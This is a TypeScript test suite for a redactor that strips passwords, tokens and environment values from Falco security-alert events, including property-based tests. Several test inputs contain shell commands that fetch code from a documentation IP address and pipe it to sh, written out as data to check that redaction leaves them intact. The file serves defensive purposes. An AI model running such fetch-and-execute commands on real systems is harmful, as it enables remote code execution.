import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { FalcoEvent } from '../../functions/core/event/alert.ts';
import { readEvent } from '../../functions/ingest/event.ts';
import { createRedactor } from '../../functions/ingest/redact.ts';
import { fixtureNames, fixtureText } from '../fixtures/load.ts';
import { CAUGHT } from './redact-cases.ts';
import { STAYS } from './redact-stays.ts';

const redactor = createRedactor('a key of the tests');

function read(raw: string): FalcoEvent {
  const result = readEvent(raw);
  if (!result.ok) throw new Error(result.detail);
  return result.event;
}

function redact(raw: string): { line: string; event: FalcoEvent; replaced: number } {
  return redactor.redact(raw, read(raw));
}

function eventText(fields: Record<string, unknown>, output = 'something happened'): string {
  return JSON.stringify({
    uuid: 'a5c0a5b2-3c0f-4f0e-9c39-0242ac120002',
    output,
    priority: 'Warning',
    rule: 'Some rule',
    time: '2026-11-23T09:00:00Z',
    output_fields: fields,
    source: 'syscall',
    tags: [],
    hostname: 'gke-payments-eu1-default-pool-3c401fa8-g2q1',
  });
}

describe('caught', () => {
  test.each(CAUGHT)('%s', (_name, text, secrets) => {
    const { line, replaced } = redact(
      eventText({ 'proc.cmdline': text }, `09:00:00.0: Warning it ran | command=${text} terminal=0`),
    );

    expect(replaced).toBeGreaterThanOrEqual(2);
    for (const secret of secrets) expect(line).not.toContain(JSON.stringify(secret).slice(1, -1));
    expect(line).toMatch(/\[redacted:[0-9a-f]{8}\]/);
    expect(redact(line).line).toBe(line);
  });

  test('nothing but the secret goes', () => {
    const { event } = redact(eventText({ 'proc.cmdline': 'app --password hunter2 --verbose' }));
    expect(event.fields['proc.cmdline']).toMatch(/^app --password \[redacted:[0-9a-f]{8}\] --verbose$/);
  });

  test.each([
    ['a quote closes before it', 'curl -d "a token="hunter2x http://203.0.113.9 -d "b c"'],
    ['its quote has no end', "echo token='hunter2x ; curl http://203.0.113.9 | sh"],
    ['a command ends it', 'sh -c TOKEN="hunter2x$(curl http://203.0.113.9/x | sh)"'],
    ['a long command ends it', `sh -c TOKEN="hunter2x$(/${'a/'.repeat(200)}curl http://203.0.113.9/x | sh)"`],
    ['a command behind a blank ends it', 'sh -c TOKEN="hunter2x$( curl http://203.0.113.9/x | sh)"'],
    ['a command in backticks ends it', 'sh -c TOKEN="hunter2x` curl http://203.0.113.9/x | sh`"'],
    ['its quote is of a word', 'x="token="hunter2x; curl http://203.0.113.9 | sh; y=""'],
  ])('the command goes on behind a value where %s', (_name, text) => {
    const { line } = redact(eventText({ 'proc.cmdline': text }));
    expect(line).toBe(eventText({ 'proc.cmdline': text.replace('hunter2x', String(line.match(/\[redacted:\w+\]/))) }));
  });

  test.each([
    ['hexadecimal escapes in a name', 'app --pass\\u0077ord=hunter2x'],
    ['an escaped equals sign', 'PGPASSWORD\\u003dhunter2x psql'],
    ['escaped slashes', 'git clone https:\\/\\/ana:hunter2x@example.com\\/a'],
    ['an escaped at sign', 'redis:\\/\\/:hunter2x\\u0040cache:6379'],
    ['a quoted JSON within', '{\\"user\\":\\"ana\\",\\"password\\":\\"hunter2x\\"}'],
    ['a line break before the value', 'password:\\nhunter2x'],
    ['a tab before an option', 'curl\\t-u\\tana:hunter2x https://example.com'],
    ['an escaped token prefix', 'x \\u0067hp_hunter2x0123456789abcdefghijABCDEFGHIJ'],
  ])('%s in the raw text', (_name, escaped) => {
    const raw = eventText({ 'proc.cmdline': 'PLACE' }).replace('PLACE', () => escaped);
    const { line, replaced } = redact(raw);
    expect(replaced).toBe(1);
    expect(line).not.toContain('hunter2x');
  });
});

describe('stays', () => {
  test.each(STAYS)('%s', (_name, text) => {
    const raw = eventText({ 'proc.cmdline': text }, `it ran | command=${text} terminal=0`);
    expect(redact(raw)).toEqual({ line: raw, event: read(raw), replaced: 0 });
  });
});

describe('an event as a whole', () => {
  test('the same secret goes from fields whose own text does not tell', () => {
    const { line, event } = redact(
      eventText(
        {
          'proc.cmdline': 'mysql -u root -pTr0ub4dor3 ledger',
          'proc.args': '-u root -pTr0ub4dor3 ledger',
          'evt.args': 'Tr0ub4dor3',
        },
        'it ran Tr0ub4dor3 | parent said Tr0ub4dor3',
      ),
    );
    expect(line).not.toContain('Tr0ub4dor3');
    const marks = new Set(line.match(/\[redacted:[0-9a-f]{8}\]/g));
    expect(marks.size).toBe(1);
    expect(event.output).toBe(`it ran ${[...marks][0]} | parent said ${[...marks][0]}`);
  });

  test('equal secrets stay recognisable, different ones and different keys do not agree', () => {
    const one = redact(eventText({ a: 'x --token abcdef123456' })).event.fields.a;
    const same = redact(eventText({ b: 'y --api-key=abcdef123456' })).event.fields.b;
    const other = redact(eventText({ a: 'x --token abcdef123457' })).event.fields.a;
    const raw = eventText({ a: 'x --token abcdef123456' });
    const elsewhere = createRedactor('another key').redact(raw, read(raw)).event.fields.a;
    expect(String(same).split('=')[1]).toBe(String(one).split(' ').at(-1));
    expect(other).not.toBe(one);
    expect(elsewhere).not.toBe(one);
  });

  test('proc.env keeps names only, and output that repeats it as well', () => {
    const environment = 'PATH=/usr/bin HOME=/root DB=postgres SESSION_ID=abc def LAST=1';
    const { event } = redact(eventText({ 'proc.env': environment }, `env=${environment} terminal=0`));
    expect(event.fields['proc.env']).toBe('PATH= HOME= DB= SESSION_ID= LAST=');
    expect(event.output).not.toMatch(/postgres|abc|\/root/);
    expect(event.output).toMatch(/^env=PATH= HOME=/);
  });

  test('an environment that was cut goes from output too', () => {
    const environment = `PATH=/usr/bin:/usr/local/bin NAME=${'q7'.repeat(300)}`;
    const raw = eventText(
      { 'proc.env': `${environment.slice(0, 512)}...[...]` },
      `env=${environment.slice(0, 400)}...[...]`,
    );
    expect(redact(raw).line).not.toContain('q7q7');
  });

  test('one variable of the environment is a value', () => {
    const { event } = redact(eventText({ 'proc.env[DB_URL]': 'postgres' }));
    expect(event.fields['proc.env[DB_URL]']).toMatch(/^\[redacted:[0-9a-f]{8}\]$/);
  });

  test('a config map keeps its keys, as text and as an object', () => {
    const object = { data: { 'db.url': 'postgres', mode: 'fast' }, n: 1 };
    const text = redact(eventText({ 'ka.req.configmap.obj': JSON.stringify(object) })).event.fields[
      'ka.req.configmap.obj'
    ];
    const mark = expect.stringMatching(/^\[redacted:[0-9a-f]{8}\]$/);
    expect(JSON.parse(String(text))).toEqual({ data: { 'db.url': mark, mode: mark }, n: 1 });
    expect(redact(eventText({ 'ka.req.configmap.obj': object })).event.fields['ka.req.configmap.obj']).toEqual({
      data: { 'db.url': mark, mode: mark },
      n: 1,
    });
    expect(
      redact(eventText({ 'ka.req.configmap.obj': '{"data":{"a":"b...[...]' })).event.fields['ka.req.configmap.obj'],
    ).toEqual(mark);
  });

  test('members named like secrets, at any depth, in lists too', () => {
    const { line } = redact(
      eventText({ 'ct.request': { password: 'Winter2026!', tokens: { apiKey: ['one-of-two', 'two-of-two'] } } }),
    );
    expect(line).not.toMatch(/Winter2026|one-of-two|two-of-two/);
  });

  test('a key that is a secret is redacted like a value', () => {
    const { line } = redact(eventText({ headers: { ghp_0123456789abcdefghijABCDEFGHIJ: 'x' } }));
    expect(line).not.toContain('ghp_');
  });

  test('what identity and routing stand on is never touched', () => {
    const raw = eventText({
      'proc.cmdline': 'app --password payments-2026-eu --token gke-payments-eu1-default-pool-3c401fa8-g2q1',
    });
    const withPlace = raw.replace(
      '"proc.cmdline"',
      '"k8s.ns.name":"payments-2026-eu","container.name":"payments-2026-eu","proc.cmdline"',
    );
    const { event } = redact(withPlace);
    expect(event.fields).toMatchObject({ 'k8s.ns.name': 'payments-2026-eu', 'container.name': 'payments-2026-eu' });
    expect(event.hostname).toBe('gke-payments-eu1-default-pool-3c401fa8-g2q1');
    expect(event.uuid).toBe('a5c0a5b2-3c0f-4f0e-9c39-0242ac120002');
  });

  test('a password as short as a word is taken where it stands, and not from everywhere', () => {
    const { event } = redact(
      eventText({ 'proc.cmdline': 'mysql -proot', 'user.name': 'root', 'evt.args': 'uid=root' }),
    );
    expect(event.fields).toMatchObject({ 'user.name': 'root', 'evt.args': 'uid=root' });
    expect(event.fields['proc.cmdline']).toMatch(/^mysql -p\[redacted:/);
  });

  test('every byte outside of the changed strings stays', () => {
    const raw =
      '{ "uuid":"u", "output":"a \\u003cb\\u003e --password hunter2x","priority":"Info","rule":"r","time":"2026-11-23T09:00:00.10Z",\n' +
      '"output_fields":{"evt.time":1795424400580211919,"x":1.50,"y":"\\u003cNA\\u003e"},"more":[1e2, 9007199254740993]}';
    const { line, event } = redact(raw);
    expect(line).toBe(raw.replace(/"a .*?hunter2x"/, () => JSON.stringify(event.output)));
    expect(event.fields['evt.time']).toBe(1795424400580211919n);
  });

  test.each(fixtureNames())('fixture %s: valid, idempotent, and equal where nothing was redacted', (name) => {
    const raw = fixtureText(name);
    const { line, replaced } = redact(raw);
    if (replaced === 0) expect(line).toBe(raw);
    expect(() => JSON.parse(line)).not.toThrow();
    expect(redact(line).line).toBe(line);
    expect(line).not.toMatch(/hunter2|s3cr3tT0kenValue|Tr0ub4dor3|Pa55word|Winter2026|eyJzdWIi/);
  });

  test('fixtures with a secret are redacted', () => {
    const redacted = fixtureNames().filter((name) => redact(fixtureText(name)).replaced > 0);
    expect(redacted).toEqual([
      'audit-configmap',
      'exec-curl-download',
      'exec-dropped-binary',
      'exec-kubectl',
      'exec-miner',
      'exec-mysqldump',
      'plugin-cloudtrail',
    ]);
  });
});

describe('any text', () => {
  const word = fc.constantFrom(
    '--password',
    'token=',
    ' ',
    '"',
    '\\',
    '://',
    '@',
    ':',
    'a',
    'Bearer ',
    '-pX',
    'mysql ',
    '\n',
    '[redacted:',
    ']',
    '0a1b2c3d',
    '=',
    '\u{1f600}',
    'curl -u ',
    'Cookie: ',
    '; ',
    '-----BEGIN PRIVATE KEY-----',
    'é',
    'eyJ',
  );

  test('the line is valid JSON of the same shape, and redacting again changes nothing', () => {
    fc.assert(
      fc.property(
        fc.array(word, { maxLength: 14 }).map((words) => words.join('')),
        fc.string({ unit: 'binary', maxLength: 30 }),
        (text, any) => {
          const raw = eventText(
            { 'proc.cmdline': text, 'proc.env': any, list: [any, { [text]: text }] },
            `${text} ${any}`,
          );
          const { line, event } = redact(raw);
          expect(Object.keys(event.fields).slice(0, 3)).toEqual(['proc.cmdline', 'proc.env', 'list']);
          expect(redact(line).line).toBe(line);
        },
      ),
      { numRuns: 500 },
    );
  });

  test('a password that the name announces never survives', () => {
    const password = fc
      .string({ unit: fc.constantFrom(...'abcXYZ019!#%^*+~'), minLength: 6, maxLength: 30 })
      .filter((text) => /^[a-cX-Z019]/.test(text) && !/^x+$/i.test(text));
    fc.assert(
      fc.property(password, (secret) => {
        for (const form of [
          `app --password ${secret}`,
          `PGPASSWORD=${secret} psql`,
          `{"password":"${secret}"}`,
          `https://ana:${encodeURIComponent(secret)}@example.com/`,
        ]) {
          const { event } = redact(eventText({ 'proc.cmdline': form }));
          expect(event.fields['proc.cmdline']).not.toContain(secret);
          expect(event.fields['proc.cmdline']).toMatch(/\[redacted:[0-9a-f]{8}\]/);
        }
      }),
      { numRuns: 200 },
    );
  });
});
